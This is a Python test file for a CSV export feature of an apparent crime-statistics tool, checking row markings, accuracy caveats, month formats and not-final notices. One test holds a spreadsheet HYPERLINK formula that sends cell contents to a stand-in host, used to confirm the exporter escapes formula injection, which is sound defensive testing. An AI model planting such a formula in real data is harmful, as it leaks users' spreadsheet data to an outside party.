"""A table as a file of rows: each says where it is from, and a spreadsheet computes none of it."""

import csv
import io
from pathlib import Path

import pytest

import cocad
import dozen
from cocad.export.sheet import as_csv
from cocad.snapshots import write
from disclosure.test_attack import KENT
from disclosure.test_comparator import REGION

FORMULA = '=HYPERLINK("http://elsewhere.example/?"&A2,"OFFICIAL")'


def test_a_marking_that_would_be_a_formula_is_text(root: Path) -> None:
    write(root, dozen.description(synthetic=False, marking=FORMULA), dozen.frames())
    table = cocad.tabulate(cocad.open("dozen"), "crimes", ["recency"])
    rows = list(csv.DictReader(io.StringIO(as_csv(table).decode("utf-8-sig"))))
    assert [row["recency"] for row in rows] == ["Recent", "Non-recent", "Unknown"]
    assert {row["marking"] for row in rows} == {f"'{FORMULA}"}
    assert [int(row["count"]) for row in rows] == table.frame["count"].to_list()


@pytest.mark.usefixtures("folder")
def test_each_row_has_the_snapshot_and_the_marking() -> None:
    table = cocad.tabulate(cocad.open("dozen"), "crimes", ["recency"])
    rows = list(csv.DictReader(io.StringIO(as_csv(table).decode("utf-8-sig"))))
    told = ("dozen", "Synthetic data, not for operational use. OFFICIAL")
    assert {(row["snapshot"], row["marking"]) for row in rows} == {told}


def test_a_comparator_says_in_each_row_that_its_numbers_are_about() -> None:
    told = cocad.tabulate(REGION, "crimes", ["criterion"], {}, viewer=f"force:{KENT}")
    head, *rows = as_csv(told).decode().splitlines()
    assert head.endswith(",accuracy")
    assert all(row.endswith('"about, from disguised records, rounded to 5"') for row in rows)
    own = cocad.tabulate(REGION, "crimes", ["criterion"], {"force": KENT}, viewer=f"force:{KENT}")
    assert "accuracy" not in as_csv(own).decode()


@pytest.mark.usefixtures("folder")
def test_it_opens_in_a_spreadsheet_with_its_letters_and_its_months_as_text() -> None:
    made = as_csv(cocad.tabulate(cocad.open("dozen"), "crimes", ["month"]))
    assert made.startswith(b"\xef\xbb\xbfmonth,")
    rows = list(csv.DictReader(io.StringIO(made.decode("utf-8-sig"))))
    assert [row["month"] for row in rows] == [f"2023-M{month:02}" for month in range(1, 13)]


@pytest.mark.usefixtures("folder")
def test_what_is_not_final_says_so_in_its_rows_and_nothing_else_does() -> None:
    def told(by: list[str], **where: str) -> list[str | None]:
        made = as_csv(cocad.tabulate(cocad.open("dozen"), "crimes", by, where))
        return [row.get("not_final") for row in csv.DictReader(io.StringIO(made.decode("utf-8-sig")))]

    said = "2023-Q4 is not final: records of it may still come late or be corrected."
    assert told(["quarter"]) == ["", "", "", said]
    assert told(["month"]) == [""] * 9 + [said] * 3
    assert told(["recency"]) == [said] * 3
    assert told(["recency"], month="2023-01..2023-09") == [None] * 3
    assert told(["recency"], quarter="2023-Q4") == [said] * 3
